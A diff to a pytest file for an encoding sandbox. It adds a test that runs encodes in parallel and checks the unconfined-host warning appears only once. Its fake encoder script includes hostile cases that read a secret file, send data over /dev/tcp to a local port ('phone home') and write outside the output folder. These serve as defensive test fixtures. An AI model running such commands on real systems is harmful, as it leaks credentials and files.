@@ -8,6 +8,7 @@ import shutil
 import socket
 import threading
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import pytest
@@ -26,7 +27,7 @@ case $3 in
   101) cat {secret} > "$out" ;;                                      # read a file outside the input
   102) exec 3<>/dev/tcp/127.0.0.1/{port}; echo stolen >&3; cp "$in" "$out" ;;  # phone home
   103) echo planted > {plant}; cp "$in" "$out" ;;                    # write outside the output folder
-  104) cp "$in" "$out" ;;                                            # an honest encoder: copies its input
+  *) cp "$in" "$out" ;;                                              # an honest encoder: copies its input
 esac
 """
 
@@ -117,14 +118,14 @@ def test_where_the_host_cannot_confine_the_encode_runs_and_says_so_once(
         (tools / tool).symlink_to(str(shutil.which(tool)))
     monkeypatch.setenv("PATH", str(tools))
     sandbox.confinement.cache_clear()
-    sandbox.warn_unconfined.cache_clear()
-    try:
-        with caplog.at_level(logging.WARNING, logger="farm.sandbox"):
-            stolen = encode(bundle, source, 101, folder / "cache")  # the risk the warning names is real
-            encode(bundle, source, 104, folder / "cache")
+    sandbox._warned.clear()
+    rates = [101, *range(104, 111)]
+    try:  # encoded as the planner does, in parallel: still one warning
+        with caplog.at_level(logging.WARNING, logger="farm.sandbox"), ThreadPoolExecutor(4) as pool:
+            done = list(pool.map(lambda rate: encode(bundle, source, rate, folder / "cache"), rates))
     finally:
         sandbox.confinement.cache_clear()
-        sandbox.warn_unconfined.cache_clear()
-    assert stolen.path.read_text() == "the lab's SSH key\n"
+        sandbox._warned.clear()
+    assert done[0].path.read_text() == "the lab's SSH key\n"  # the risk the warning names is real
     warnings = [r.getMessage() for r in caplog.records if "NOT confined" in r.getMessage()]
     assert len(warnings) == 1 and "bubblewrap (bwrap) is not installed" in warnings[0]
